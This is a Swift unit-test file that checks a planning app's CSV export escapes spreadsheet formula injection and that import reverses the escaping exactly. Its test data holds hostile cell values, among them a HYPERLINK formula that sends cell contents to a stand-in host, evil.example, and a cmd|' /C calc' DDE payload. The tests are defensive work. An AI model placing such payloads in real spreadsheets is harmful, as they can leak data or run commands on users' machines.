import PlanFormats
import PlanModel
import XCTest

/// No exported cell can start a formula (OWASP: a leading `'` before = + - @ tab CR), and import removes
/// exactly that prefix, so export → import → export is identical for hostile texts too.
final class FormulaInjectionTests: XCTestCase {
    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "'=already quoted", "''+two", "'plain apostrophe", "=", "-", "- Laporan bulanan",
        "a=b", " =lead space", "＝fullwidth", "'", "",
    ]

    private func plan(_ texts: [String]) -> Plan {
        Plan(document: DocumentInfo(title: "Uji", unit: "Unit", year: 2022), areas: [
            ChangeArea(number: 1, name: "=cmd|'/C calc'!A0", kegiatan: [
                Kegiatan(title: "@kegiatan", subKegiatan: [
                    SubKegiatan(title: "+sub", indicators: texts.map { Indicator(text: "x" + $0, months: MonthSet([.jan]), ket: $0) }),
                ]),
            ]),
        ])
    }

    func testTheRuleIsInvertibleAndNeutralisesEveryTrigger() {
        for text in Self.hostile {
            let cell = SpreadsheetText.neutralised(text)
            XCTAssertEqual(SpreadsheetText.restored(cell), text, text.debugDescription)
            if let first = cell.unicodeScalars.first {
                XCTAssertFalse("=+-@\t\r".unicodeScalars.contains(first), cell.debugDescription)
            }
        }
        XCTAssertEqual(SpreadsheetText.neutralised("=1"), "'=1")
        XCTAssertEqual(SpreadsheetText.neutralised("'=1"), "''=1")
        XCTAssertEqual(SpreadsheetText.neutralised("'abc"), "'abc")
        XCTAssertEqual(SpreadsheetText.neutralised("a=1"), "a=1")
        XCTAssertEqual(SpreadsheetText.restored("'abc"), "'abc")
    }

    func testNoCSVCellStartsAFormulaAndTheRoundTripIsIdentical() throws {
        let original = plan(Self.hostile)
        let csv = CSVExport.csv(plan: original, includeIDs: true)
        // Each field, unquoted, must not begin with a trigger.
        for line in csv.components(separatedBy: "\r\n").dropFirst() where !line.isEmpty {
            var inQuotes = false, fieldStart = true
            for scalar in line.unicodeScalars {
                if fieldStart {
                    if scalar == "\"" { inQuotes = true; continue }
                    XCTAssertFalse("=+-@\t\r".unicodeScalars.contains(scalar), "a field starts with \(scalar): \(line)")
                    fieldStart = false
                }
                if scalar == "\"" { inQuotes.toggle() }
                if scalar == "," && !inQuotes { fieldStart = true }
            }
        }
        let imported = try CSVImport.plan(fromCSV: csv, file: "uji.csv", document: original.document)
        XCTAssertEqual(imported.rows.map(\.ket), Self.hostile)
        XCTAssertEqual(imported.rows.map(\.indikator), Self.hostile.map { "x" + $0 })
        XCTAssertEqual(imported.rows.first?.areaName, "=cmd|'/C calc'!A0")
        XCTAssertEqual(CSVExport.csv(plan: imported, includeIDs: true), csv)
    }
}
